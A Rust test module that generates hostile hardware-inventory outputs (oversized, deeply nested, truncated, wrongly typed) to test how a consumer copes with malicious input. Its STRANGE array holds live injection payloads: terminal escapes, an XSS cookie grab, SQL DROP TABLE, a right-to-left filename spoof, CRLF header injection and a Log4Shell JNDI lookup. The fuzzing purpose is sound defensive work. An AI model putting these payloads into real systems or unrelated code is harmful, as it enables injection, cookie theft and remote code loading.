//! Harmful inventories.

use serde_json::{Value, json};

use super::Machine;

/// One kind of harm. The names are shown in the summary.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Hostility {
    /// 15,000 disks.
    ManyDisks,
    /// Control characters, markup, terminal commands and text direction in every text.
    StrangeTexts,
    /// One text of 1 MiB.
    LongText,
    /// More bytes than any reply may have.
    Huge,
    /// Lists in lists, ten thousand deep.
    Deep,
    /// No JSON.
    Broken,
    /// Numbers where texts are, and numbers that no machine has.
    WrongTypes,
}

impl Hostility {
    const ALL: [Self; 7] = [
        Self::ManyDisks,
        Self::StrangeTexts,
        Self::LongText,
        Self::Huge,
        Self::Deep,
        Self::Broken,
        Self::WrongTypes,
    ];

    /// The kinds in turn.
    pub fn of_turn(turn: u32) -> Self {
        Self::ALL[turn as usize % Self::ALL.len()]
    }

    /// Its name in the summary.
    pub fn name(self) -> &'static str {
        match self {
            Self::ManyDisks => "15,000 disks",
            Self::StrangeTexts => "control characters and markup in every text",
            Self::LongText => "a text of 1 MiB",
            Self::Huge => "an inventory of 12 MiB",
            Self::Deep => "10,000 levels of nesting",
            Self::Broken => "half an inventory",
            Self::WrongTypes => "numbers for texts, impossible numbers",
        }
    }
}

/// Texts that are harmful where they are shown.
const STRANGE: [&str; 6] = [
    "\u{0}\u{1b}[2J\u{1b}]0;owned\u{7}",
    "<script>alert(document.cookie)</script>",
    "'; DROP TABLE hosts; --",
    "\u{202e}gpj.exe",
    "a\r\nSet-Cookie: x=y",
    "${jndi:ldap://192.0.2.1/x}%s%n",
];

/// The output of an inventory step with `hostility`.
pub fn hostile(machine: Machine, hostility: Hostility) -> String {
    let mut inventory = serde_json::to_value(machine.inventory()).expect("an inventory is JSON");
    match hostility {
        Hostility::ManyDisks => {
            let disk = |n: u32| {
                json!({"name": format!("sd{n}"), "path": format!("/dev/sd{n}"), "id": format!("/dev/sd{n}"),
                       "drive_type": "HDD", "size_bytes": 480_000_000_000_i64})
            };
            inventory["disks"] = (0..15_000).map(disk).collect();
        }
        Hostility::StrangeTexts => {
            let mut next = 0;
            fill(&mut inventory, &mut next);
        }
        Hostility::LongText => inventory["cpu"]["model_name"] = "x".repeat(1 << 20).into(),
        Hostility::Huge => inventory["cpu"]["flags"] = vec!["y".repeat(100 << 10); 130].into(),
        Hostility::Deep => {
            let mut text = inventory.to_string();
            text.pop();
            return format!("{text},\"gpus2\":{}{}}}", "[".repeat(10_000), "]".repeat(10_000));
        }
        Hostility::Broken => {
            let text = inventory.to_string();
            let middle = (text.len() / 2..)
                .find(|at| text.is_char_boundary(*at))
                .unwrap_or(0);
            return text[..middle].to_owned();
        }
        Hostility::WrongTypes => {
            inventory["hostname"] = json!(7);
            inventory["memory"]["physical_bytes"] = json!(i64::MIN);
            inventory["cpu"]["count"] = json!(1e300);
        }
    }
    inventory.to_string()
}

fn fill(value: &mut Value, next: &mut usize) {
    match value {
        Value::String(text) => {
            *text = STRANGE[*next % STRANGE.len()].to_owned();
            *next += 1;
        }
        Value::Array(list) => list.iter_mut().for_each(|item| fill(item, next)),
        Value::Object(map) => map.values_mut().for_each(|item| fill(item, next)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_hostility_is_what_it_is_called() {
        let machine = Machine::new(1, 2);
        let text = |hostility| hostile(machine, hostility);
        let disks: Value = serde_json::from_str(&text(Hostility::ManyDisks)).unwrap();
        assert_eq!(disks["disks"].as_array().unwrap().len(), 15_000);
        let strange: Value = serde_json::from_str(&text(Hostility::StrangeTexts)).unwrap();
        assert!(STRANGE.contains(&strange["hostname"].as_str().unwrap()));
        assert!(text(Hostility::Huge).len() > 12 << 20);
        assert!(text(Hostility::Deep).contains(&"[".repeat(10_000)));
        assert!(serde_json::from_str::<Value>(&text(Hostility::Broken)).is_err());
        assert!(
            serde_json::from_str::<muster_api::inventory::Inventory>(&text(Hostility::WrongTypes)).is_err()
        );
    }
}
